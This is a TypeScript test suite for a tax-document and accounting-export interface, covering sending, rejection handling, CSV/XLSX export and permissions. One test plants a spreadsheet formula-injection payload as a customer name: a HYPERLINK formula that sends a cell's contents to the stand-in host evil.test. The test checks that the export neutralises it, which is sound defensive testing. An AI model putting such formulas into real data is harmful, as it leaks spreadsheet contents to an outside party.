import * as XLSX from 'xlsx';
import { afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { setTodayForTests } from '../../domain/calendar.ts';
import { EXPORT_RANGE_TOO_LONG, SEND_NOTHING, setTaxAuthority, simulatorTaxAuthority } from '../../domain/taxInterface.ts';
import { codeOf, expectValidation, ok, signIn, tableDump } from '../../testing/adminFixtures.ts';
import { payableReservation, limaPayables } from '../../testing/cashierFixtures.ts';
import { signInCusco } from '../../testing/ouFixtures.ts';
import { dbKinds } from '../../testing/testServer.ts';
import { suiteServer } from '../../testing/suiteServer.ts';

const TODAY = '2031-03-02';

const DOC = 'idFiscalDocument documentType number total taxStatus taxTicket taxMessage exportedAt idCashierTransaction idAdvance entity { name }';
const SEARCH = `query ($input: TaxDocumentSearchInput!) { searchTaxDocuments(input: $input) { count data { ${DOC} } } }`;
const SEND = `mutation ($ids: [ID!]!) { sendTaxDocuments(ids: $ids) { ${DOC} } }`;
const EXPORT = `mutation ($input: AccountingExportInput!) { exportAccountingDocuments(input: $input) { fileName contentType base64 rowCount } }`;
const COMPLETE = `mutation ($data: CashierTransactionInput!) { completeCashierTransaction(data: $data) { documents { idFiscalDocument number } } }`;

interface Doc {
  idFiscalDocument: string; documentType: string; number: string; total: string; taxStatus: string; taxTicket: string | null;
  taxMessage: string | null; exportedAt: string | null;
}

let keys = 0;
const newKey = () => `tax-${Date.now()}-${++keys}`;

describe.each(dbKinds)('tax and accounting interface (%s)', (kind) => {
  const { server, users: [admin] } = suiteServer(kind, { users: ['ADMIN'], today: TODAY });
  let lim: string;
  let instance: string;
  let usd: string;

  beforeAll(async () => {
    ({ lim, instance, usd } = await limaPayables(server.db, 'TAX-1', { cashier: admin.idUser }));
  });
  beforeEach(() => setTodayForTests(TODAY));
  afterEach(() => setTaxAuthority(simulatorTaxAuthority()));

  const sale = async (price: string, customer?: string) => {
    const r = await payableReservation(server.db, lim, instance, [price], { customer });
    const data = { idempotencyKey: newKey(), items: [{ idReservationItem: r.items[0], amountToPay: price }], payments: [{ method: 'CASH', idCurrency: usd, amount: price }] };
    return ok(await admin.gql<{ completeCashierTransaction: { documents: { idFiscalDocument: string; number: string }[] } }>(COMPLETE, { data }))
      .completeCashierTransaction.documents[0];
  };
  const search = async (input: Record<string, unknown>) =>
    ok(await admin.gql<{ searchTaxDocuments: { count: number; data: Doc[] } }>(SEARCH, { input })).searchTaxDocuments;

  it('lists pending documents and sends them through the simulator', async () => {
    const first = await sale('118.00');
    const second = await sale('59.00', 'Inca Trails Journeys');
    const pending = await search({ taxStatus: 'PENDING', dateFrom: TODAY, dateTo: TODAY });
    expect(pending.data.map((d) => d.idFiscalDocument)).toEqual(expect.arrayContaining([first.idFiscalDocument, second.idFiscalDocument]));
    const sent = ok(await admin.gql<{ sendTaxDocuments: Doc[] }>(SEND, { ids: [first.idFiscalDocument, second.idFiscalDocument] })).sendTaxDocuments;
    expect(sent.map((d) => d.taxStatus)).toEqual(['ACCEPTED', 'ACCEPTED']);
    expect(sent[0].taxTicket).toMatch(/^SIM-/);
    expect((await search({ taxStatus: 'PENDING' })).data.map((d) => d.idFiscalDocument)).not.toContain(first.idFiscalDocument);
    // Sending an accepted document again changes nothing.
    const before = await tableDump(server, 'fiscal_document');
    ok(await admin.gql(SEND, { ids: [first.idFiscalDocument] }));
    expect(await tableDump(server, 'fiscal_document')).toEqual(before);
  });

  it('keeps a rejection with its reason and sends it again; an adapter failure leaves it pending', async () => {
    const doc = await sale('10.00');
    setTaxAuthority({ send: async (d) => ({ accepted: false, ticket: 'T-1', message: `${d.number}: customer address missing` }) });
    const [rejected] = ok(await admin.gql<{ sendTaxDocuments: Doc[] }>(SEND, { ids: [doc.idFiscalDocument] })).sendTaxDocuments;
    expect(rejected).toMatchObject({ taxStatus: 'REJECTED', taxMessage: `${doc.number}: customer address missing` });
    setTaxAuthority({ send: async () => { throw new Error('timeout'); } });
    const [failed] = ok(await admin.gql<{ sendTaxDocuments: Doc[] }>(SEND, { ids: [doc.idFiscalDocument] })).sendTaxDocuments;
    expect(failed).toMatchObject({ taxStatus: 'PENDING', taxMessage: 'Not sent: timeout' });
    setTaxAuthority(simulatorTaxAuthority());
    const [accepted] = ok(await admin.gql<{ sendTaxDocuments: Doc[] }>(SEND, { ids: [doc.idFiscalDocument] })).sendTaxDocuments;
    expect(accepted.taxStatus).toBe('ACCEPTED');
  });

  it('exports the range as CSV and XLSX and marks the documents exported', async () => {
    const doc = await sale('236.00');
    expect((await search({ notExported: true })).data.map((d) => d.idFiscalDocument)).toContain(doc.idFiscalDocument);
    const csv = ok(await admin.gql<{ exportAccountingDocuments: { fileName: string; contentType: string; base64: string; rowCount: number } }>(
      EXPORT, { input: { dateFrom: TODAY, dateTo: TODAY, format: 'CSV' } },
    )).exportAccountingDocuments;
    expect(csv.fileName).toBe(`documents-${TODAY}-${TODAY}.csv`);
    const text = Buffer.from(csv.base64, 'base64').toString('utf8').replace(/^\uFEFF/, '');
    const lines = text.trim().split('\r\n');
    expect(lines[0]).toBe('Issue date,Document type,Number,Corrects,Customer,Customer document,Currency,Subtotal,Tax,Total,Tax status,Origin');
    expect(lines.length - 1).toBe(csv.rowCount);
    expect(lines.find((l) => l.includes(doc.number))).toMatch(/,USD,200\.00,36\.00,236\.00,/);
    expect((await search({ notExported: true })).data.map((d) => d.idFiscalDocument)).not.toContain(doc.idFiscalDocument);

    const xlsx = ok(await admin.gql<{ exportAccountingDocuments: { fileName: string; base64: string; rowCount: number } }>(
      EXPORT, { input: { dateFrom: TODAY, dateTo: TODAY, format: 'XLSX' } },
    )).exportAccountingDocuments;
    const sheet = XLSX.read(Buffer.from(xlsx.base64, 'base64')).Sheets.Documents;
    const rows = XLSX.utils.sheet_to_json<Record<string, unknown>>(sheet);
    expect(rows).toHaveLength(xlsx.rowCount);
    expect(rows.find((r) => r.Number === doc.number)).toMatchObject({ Total: 236, Tax: 36, Currency: 'USD' });
  });

  it('exports a customer name that looks like a formula as text: neutralised in CSV, a string cell in XLSX', async () => {
    const formula = '=HYPERLINK("http://evil.test/?x="&A1,"Click")';
    const doc = await sale('11.80');
    const [{ id, name }] = await server.db.query<{ id: string; name: string }>(
      `select e.id_entity as id, e.name from fiscal_document d join entity e using (id_entity) where d.id_fiscal_document = $1`,
      [doc.idFiscalDocument]);
    await server.db.query('update entity set name = $2 where id_entity = $1', [id, formula]);
    try {
      const exported = async (format: string) => Buffer.from(ok(await admin.gql<{ exportAccountingDocuments: { base64: string } }>(
        EXPORT, { input: { dateFrom: TODAY, dateTo: TODAY, format } })).exportAccountingDocuments.base64, 'base64');
      const line = (await exported('CSV')).toString('utf8').split('\r\n').find((l) => l.includes(doc.number))!;
      expect(line).toContain(`,"'=HYPERLINK(""http://evil.test/?x=""&A1,""Click"")",`);
      expect(line).toMatch(/,USD,10\.00,1\.80,11\.80,/);
      const sheet = XLSX.read(await exported('XLSX'), { cellFormula: true }).Sheets.Documents;
      const cells = Object.entries(sheet).filter(([ref]) => !ref.startsWith('!')).map(([, cell]) => cell as XLSX.CellObject);
      expect(cells.find((c) => c.v === formula)).toMatchObject({ t: 's' });
      expect(cells.some((c) => c.f)).toBe(false);
    } finally {
      await server.db.query('update entity set name = $2 where id_entity = $1', [id, name]);
    }
  });

  it('refuses bad input and other OUs', async () => {
    const doc = await sale('5.00');
    const before = await tableDump(server, 'fiscal_document');
    expectValidation(await admin.gql(SEND, { ids: [] }), { ids: SEND_NOTHING });
    expectValidation(await admin.gql(EXPORT, { input: { dateFrom: '2031-01-01', dateTo: '2031-02-01', format: 'CSV' } }), { dateTo: EXPORT_RANGE_TOO_LONG });
    expectValidation(await admin.gql(EXPORT, { input: {} }), { dateFrom: 'This field is required', dateTo: 'This field is required', format: 'This field is required' });
    const cusco = await signInCusco(server);
    expect(ok(await cusco.gql<{ sendTaxDocuments: Doc[] }>(SEND, { ids: [doc.idFiscalDocument] })).sendTaxDocuments).toEqual([]);
    expect((ok(await cusco.gql<{ searchTaxDocuments: { count: number } }>(SEARCH, { input: {} }))).searchTaxDocuments.count).toBe(0);
    const resadm = await signIn(server, 'RESADM');
    expect(codeOf(await resadm.gql(SEARCH, { input: {} }))).toBe('FORBIDDEN');
    expect(codeOf(await resadm.gql(SEND, { ids: [doc.idFiscalDocument] }))).toBe('FORBIDDEN');
    expect(codeOf(await resadm.gql(EXPORT, { input: { dateFrom: TODAY, dateTo: TODAY, format: 'CSV' } }))).toBe('FORBIDDEN');
    expect(await tableDump(server, 'fiscal_document')).toEqual(before);
  });
});
